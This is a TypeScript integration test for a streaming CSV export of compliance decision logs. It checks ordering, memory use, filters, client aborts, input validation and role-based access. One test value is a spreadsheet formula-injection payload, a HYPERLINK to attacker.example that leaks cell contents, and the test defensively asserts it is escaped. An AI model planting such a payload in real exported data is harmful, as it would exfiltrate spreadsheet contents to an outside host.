import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import type { NestFastifyApplication } from '@nestjs/platform-fastify';
import { Client, Pool } from 'pg';
import { createAdminApi } from '../../apps/admin-api/src/main';
import { decisionLogCsv } from '../../apps/admin-api/src/reports/decision-log-export';
import { DecisionLogWriter } from '../../apps/entitlements/src/decision-log/decision-log.writer';
import { Role } from '@app/auth';
import type { AppConfig } from '@app/config';
import { listen } from '@app/http';
import { createTestDatabase, deleteRedisKeys, TestDatabase, testConfig, tokenFor } from '@app/testing';
import { Api } from '../support/test-system';

setFlagsFromString('--expose-gc');
const collectGarbage = runInNewContext('gc') as () => void;

const ROWS = 200_000;
const DAY = '2026-06-13';
const HEAP_SAMPLE_EVERY_BYTES = 8_000_000;
const AWKWARD_USER = 'user, "quoted"\nsecond line';
const FORMULA_USER = '=HYPERLINK("https://attacker.example/?leak="&A1,"open")';

/** A streaming RFC 4180 reader: feeds records to `onRecord` as chunks arrive, keeping only the record being read. */
class CsvRecordReader {
  private field = '';
  private record: string[] = [];
  private quoted = false;
  private quoteSeen = false;

  constructor(private readonly onRecord: (record: string[]) => void) {}

  push(chunk: string): void {
    for (const char of chunk) {
      if (this.quoted) {
        if (char === '"') this.quoted = false;
        else this.field += char;
        continue;
      }
      if (char === '"') {
        if (this.quoteSeen) this.field += '"';
        this.quoted = true;
      } else if (char === ',') this.endField();
      else if (char === '\n') this.endRecord();
      else if (char !== '\r') this.field += char;
      this.quoteSeen = char === '"';
    }
  }

  private endField(): void {
    this.record.push(this.field);
    this.field = '';
  }

  private endRecord(): void {
    this.endField();
    this.onRecord(this.record);
    this.record = [];
  }
}

describe('compliance reports: the decision-log export streams', () => {
  let db: TestDatabase;
  let config: AppConfig;
  let app: NestFastifyApplication;
  let api: Api;
  let pool: Pool;
  let auditor: string;

  beforeAll(async () => {
    db = await createTestDatabase();
    config = testConfig(db.url);
    app = await createAdminApi(config);
    api = new Api(await listen(app, 0, '127.0.0.1'));
    pool = new Pool({ connectionString: db.url, max: 2 });
    auditor = tokenFor(config, Role.Auditor, { sub: 'auditor-export' });
    // Decisions spread over the day (every 0.4 s, pairs sharing one microsecond), each ~400 bytes of CSV,
    // written as the entitlements app writes them: in batches, one set of data versions per thousand.
    const writer = new DecisionLogWriter(pool, config);
    const start = Date.parse(`${DAY}T00:00:00Z`);
    for (let n = 1; n <= ROWS; n++) {
      const denied = n % 3 === 0;
      writer.record({
        id: `d-${String(n).padStart(7, '0')}`, decidedAt: start + Math.floor(n / 2) * 800 + 0.123, position: n, partnerId: `p-${n % 50}`, userId: `u-${n}`,
        model: n % 2 === 0 ? 'mythos-5' : 'fable-5', clientIp: `203.0.113.${n % 250}`, country: 'US', allow: !denied,
        reasons: denied ? ['DIRECTIVE_FOREIGN_NATIONAL', 'GOVERNMENT_APPROVAL_REQUIRED'] : [], licenseId: denied ? null : `lic-${n % 50}`,
        dataVersions: JSON.stringify({ geo: 'g'.repeat(120), ipReputation: 'r'.repeat(120), block: Math.floor(n / 1000) }),
      });
      if (n % 10_000 === 0) await writer.flush();
    }
    writer.record({
      id: 'd-awkward', decidedAt: Date.parse(`${DAY}T12:00:00.5Z`), position: 1, partnerId: 'p-awkward', userId: AWKWARD_USER, model: 'mythos-5',
      clientIp: null, country: null, allow: false, reasons: [], licenseId: null, dataVersions: '{"note":"a,b"}',
    });
    writer.record({
      id: 'd-formula', decidedAt: Date.parse(`${DAY}T12:00:00.6Z`), position: 3, partnerId: 'p-formula', userId: FORMULA_USER, model: 'mythos-5',
      clientIp: null, country: null, allow: false, reasons: [], licenseId: null, dataVersions: '{}',
    });
    writer.record({
      id: 'd-outside', decidedAt: start - 0.001, position: 2, partnerId: 'p-1', userId: 'u-before', model: 'mythos-5',
      clientIp: null, country: null, allow: true, reasons: [], licenseId: null, dataVersions: '{}',
    });
    await writer.flush();
    expect(writer.written).toBe(ROWS + 3);
  }, 120_000);

  afterAll(async () => {
    await pool?.end();
    await app?.close();
    await deleteRedisKeys(config.redis.url, config.redis.prefix);
    await db?.drop();
  });

  /** Streams the export through the reader, sampling the heap as chunks arrive. */
  async function exportCsv(query: string, token = auditor) {
    const response = await fetch(`${api.baseUrl}/v1/reports/decisions.csv?${query}`, { headers: { authorization: `Bearer ${token}` } });
    const records: string[][] = [];
    let rows = 0;
    let bytes = 0;
    let peakHeap = 0;
    let nextSample = HEAP_SAMPLE_EVERY_BYTES;
    collectGarbage();
    const heapBefore = process.memoryUsage().heapUsed;
    const reader = new CsvRecordReader((record) => {
      rows++;
      if (rows <= 3 || ['d-awkward', 'd-formula', 'd-0200000'].includes(record[0])) records.push(record);
    });
    const decoder = new TextDecoder();
    for await (const chunk of response.body as unknown as AsyncIterable<Uint8Array>) {
      bytes += chunk.byteLength;
      reader.push(decoder.decode(chunk, { stream: true }));
      if (bytes >= nextSample) {
        // What the process still holds once garbage is gone: the export's footprint, not the allocator's lag.
        collectGarbage();
        peakHeap = Math.max(peakHeap, process.memoryUsage().heapUsed);
        nextSample += HEAP_SAMPLE_EVERY_BYTES;
      }
    }
    return { response, records, rows, bytes, heapGrowth: Math.max(0, peakHeap - heapBefore) };
  }

  it('exports every row of the range once, in time order, while the heap stays flat', async () => {
    const result = await exportCsv(`from=${DAY}T00:00:00Z&to=${DAY}T23:59:59Z`);
    expect(result.response.status).toBe(200);
    expect(result.response.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(result.response.headers.get('content-disposition')).toMatch(/^attachment; filename="decisions-20260613T000000Z-20260613T235959Z\.csv"$/);
    // Header + every generated row + the awkward and the formula ones; the row a microsecond before the range is not there.
    expect(result.rows).toBe(1 + ROWS + 2);
    const [header, first, second] = result.records;
    expect(header).toEqual(['decisionId', 'decidedAt', 'position', 'partnerId', 'userId', 'model', 'clientIp', 'country', 'allow', 'reasons', 'licenseId', 'dataVersions']);
    expect(first.slice(0, 11)).toEqual(['d-0000001', '2026-06-13T00:00:00.000Z', '1', 'p-1', 'u-1', 'fable-5', '203.0.113.1', 'US', 'true', '', 'lic-1']);
    expect(JSON.parse(first[11])).toMatchObject({ block: 0 });
    expect(second[0]).toBe('d-0000002');
    expect(result.records.find((r) => r[0] === 'd-0200000')!.slice(0, 10)).toEqual([
      'd-0200000', '2026-06-13T22:13:20.000Z', '200000', 'p-0', 'u-200000', 'mythos-5', '203.0.113.0', 'US', 'true', '',
    ]);
    // Commas, quotes and a line break survive quoting; no reasons is an empty field.
    expect(result.records.find((r) => r[0] === 'd-awkward')).toEqual(['d-awkward', '2026-06-13T12:00:00.500Z', '1', 'p-awkward', AWKWARD_USER, 'mythos-5', '', '', 'false', '', '', '{"note":"a,b"}']);
    // An end user's id that a spreadsheet would run as a formula is written as text (an apostrophe before it).
    expect(result.records.find((r) => r[0] === 'd-formula')!.slice(3, 6)).toEqual(['p-formula', `'${FORMULA_USER}`, 'mythos-5']);
    // ~80 MB of CSV went through; memory held at any moment is a page or two, not the export.
    expect(result.bytes).toBeGreaterThan(60_000_000);
    expect(result.heapGrowth).toBeLessThan(16 * 1024 * 1024);
    console.log(`decision export: ${result.rows - 1} rows, ${(result.bytes / 1e6).toFixed(1)} MB, live heap growth at most ${(result.heapGrowth / 1048576).toFixed(1)} MiB`);
  }, 180_000);

  it('filters by partner, model and outcome', async () => {
    const result = await exportCsv(`from=${DAY}T00:00:00Z&to=${DAY}T06:00:00Z&partnerId=p-7&model=fable-5&allow=false`);
    expect(result.response.status).toBe(200);
    const rows = result.records.slice(1);
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) expect([row[3], row[5], row[8], row[9]]).toEqual(['p-7', 'fable-5', 'false', 'DIRECTIVE_FOREIGN_NATIONAL;GOVERNMENT_APPROVAL_REQUIRED']);
    // n = 7 (mod 50) (so odd: fable-5) and 0 (mod 3), decided before 06:00 (n <= 53,999): n = 57, 207, 357, ... every 150.
    const expected = Math.floor((53_999 - 57) / 150) + 1;
    expect(result.rows - 1).toBe(expected);
  }, 60_000);

  it('reads no further page once the reader goes away', async () => {
    const queries = jest.spyOn(Client.prototype, 'query');
    const fetches = () => queries.mock.calls.filter(([text]) => typeof text === 'string' && text.startsWith('FETCH')).length;
    const csv = decisionLogCsv(pool, { from: new Date(`${DAY}T00:00:00Z`), to: new Date(`${DAY}T23:59:59Z`) });
    for await (const chunk of csv) {
      expect(String(chunk)).toMatch(/^decisionId,/);
      break;
    }
    // The connection comes back once the fetch under way (the first one sorts the range) has answered.
    for (const started = Date.now(); pool.idleCount < pool.totalCount && Date.now() - started < 10_000; ) await new Promise((resolve) => setTimeout(resolve, 50));
    expect(pool.idleCount).toBe(pool.totalCount);
    await new Promise((resolve) => setTimeout(resolve, 300));
    // At most the rows read ahead of the reader, not the hundred fetches of the range.
    expect(fetches()).toBeGreaterThanOrEqual(1);
    expect(fetches()).toBeLessThanOrEqual(2);
    queries.mockRestore();

    // Over HTTP: a client that hangs up mid-export leaves the app serving whole exports.
    const controller = new AbortController();
    const response = await fetch(`${api.baseUrl}/v1/reports/decisions.csv?from=${DAY}T00:00:00Z&to=${DAY}T23:59:59Z`, { headers: { authorization: `Bearer ${auditor}` }, signal: controller.signal });
    await response.body!.getReader().read();
    controller.abort();
    const next = await exportCsv(`from=${DAY}T00:00:00Z&to=${DAY}T01:00:00Z`);
    expect(next.rows).toBe(1 + 8999); // n < 9000: decided before 01:00
  }, 60_000);

  it('refuses a missing, reversed or too long range and bad filters, naming the field', async () => {
    const field = async (query: string) => {
      const answer = await api.get(`/v1/reports/decisions.csv?${query}`, auditor);
      expect(answer.status).toBe(400);
      return answer.body.fields.map((f: { field: string }) => f.field);
    };
    expect(await field(`to=${DAY}T01:00:00Z`)).toEqual(['from']);
    expect(await field(`from=${DAY}T01:00:00Z`)).toEqual(['to']);
    expect(await field(`from=${DAY}T01:00:00Z&to=${DAY}T01:00:00Z`)).toEqual(['to']);
    expect(await field(`from=${DAY}T01:00:00Z&to=2026-07-15T01:00:00Z`)).toEqual(['to']);
    expect(await field(`from=yesterday&to=${DAY}T01:00:00Z`)).toEqual(['from']);
    expect(await field(`from=${DAY}T00:00:00Z&to=${DAY}T01:00:00Z&allow=maybe`)).toEqual(['allow']);
    expect(await field(`from=${DAY}T00:00:00Z&to=${DAY}T01:00:00Z&partnerId=${encodeURIComponent('p 1')}`)).toEqual(['partnerId']);
  });

  it('is for compliance officers, auditors and admins only', async () => {
    const path = `/v1/reports/decisions.csv?from=${DAY}T00:00:00Z&to=${DAY}T00:00:01Z`;
    expect((await api.get(path)).status).toBe(401);
    for (const role of [Role.Reviewer, Role.Service, Role.PartnerAdmin]) {
      expect((await api.get(path, tokenFor(config, role, { sub: `x-${role}`, partnerId: 'p-1' }))).status).toBe(403);
    }
    for (const role of [Role.ComplianceOfficer, Role.Auditor, Role.Admin]) {
      const answer = await api.get(path, tokenFor(config, role, { sub: `x-${role}` }));
      expect(answer.status).toBe(200);
      expect(String(answer.body).split('\r\n')).toEqual([expect.stringMatching(/^decisionId,/), expect.stringMatching(/^d-0000001,/), expect.stringMatching(/^d-0000002,/), expect.stringMatching(/^d-0000003,/), '']);
    }
  });
});
